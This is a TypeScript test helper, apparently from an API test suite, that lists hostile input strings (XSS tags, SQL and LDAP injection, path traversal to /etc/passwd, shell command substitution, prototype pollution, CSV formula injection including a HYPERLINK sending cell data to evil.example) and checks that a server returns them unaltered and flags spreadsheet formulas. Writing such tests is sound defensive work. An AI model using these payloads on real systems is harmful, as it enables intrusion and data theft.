import type { Answer } from './walker.js';

/**
 * Texts that are an attack somewhere else, and are to be text like any other here. `MARK` stands for what they are known
 * by. What is refused wherever it stands (control characters, overrides of direction, half characters, what is too long,
 * addresses with scripts) is among the faults of `spoil.ts`.
 */
const TEXTS: Record<string, string> = {
  'a script': '<script>alert("MARK")</script>',
  'a handler': '<img src=x onerror=alert(1) alt="MARK">',
  'a drawing with a script': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>MARK</text></svg>',
  'what ends what it stands in': `"'></textarea></title></script><iframe src="//evil.example">MARK`,
  'what is escaped already': '&lt;b&gt; &#x3C;i&#x3E; %3Cscript%3E \\u003cMARK',
  'a link in Markdown': '[MARK](javascript:alert(1)) ![x](https://evil.example/pixel.png) `code` **bold**',
  'a script as an address': 'javascript:alert("MARK")',
  'a page as an address': 'data:text/html;base64,PHNjcmlwdD4=MARK',
  'a template': '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> [[MARK]]',
  SQL: '\'; drop table cluster; -- " or 1=1 /* MARK */ $1 ?',
  LDAP: '*)(uid=*))(|(uid=MARK',
  'a way out': '../../../../etc/passwd%00 ..\\..\\MARK',
  'a command': '$(touch /tmp/MARK) `id` | cat & %COMSPEC%',
  'a query of another database': '{"$gt":"","__proto__":{"admin":true},"MARK":1}',
  'what cannot be seen': 'MARK\u200b\u200c\u200d\u2060\ufeff\u00adx',
  'very many accents': `MARK${'\u0301'.repeat(40)}`,
  'a search expression': `MARK:* & !(a <-> b) | \\ "' % _`,
  'a formula with a plus': '+1+cmd|" /C calc"!A0 MARK',
  'a formula with a minus': '-2+3+MARK',
  'a formula with an at': '@SUM(1+1)*MARK',
  'a formula': '=HYPERLINK("https://evil.example?x="&A1;"MARK")',
};

let count = 0;
/** Each with a mark of its own, so that no two things are called the same. */
export const hostileTexts = (): { about: string; words: string }[] =>
  Object.entries(TEXTS).map(([about, text]) => {
    count += 1;
    return { about, words: text.replace('MARK', `zq${count}q`) };
  });

/** Every text in an answer. */
export function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(textsIn);
}

/** What says a mark and is not one of the texts that were sent: something has been made of it on its way. */
export function mangled(body: unknown, sent: ReadonlySet<string>): string[] {
  return textsIn(body).filter((text) => /zq\d+q/.test(text) && !sent.has(text));
}

/** Data, and nothing that a browser would show as a page. */
export const isData = ({ headers }: Answer): boolean =>
  /^application\/(json|problem\+json|ld\+json|geo\+json|vc\+jwt)|^text\/(csv|calendar)/.test(
    headers.get('content-type') ?? '',
  );

/** The cells of a CSV file that a spreadsheet would run. */
export function formulasIn(csv: string): string[] {
  const cells = csv.match(/(?<=^|[,;\r\n])("(?:[^"]|"")*"|[^,;"\r\n]*)/g) ?? [];
  return cells.map((cell) => cell.replace(/^"/, '')).filter((cell) => /^[=+@\t\r]|^-(?![\d.]+"?$)/.test(cell));
}
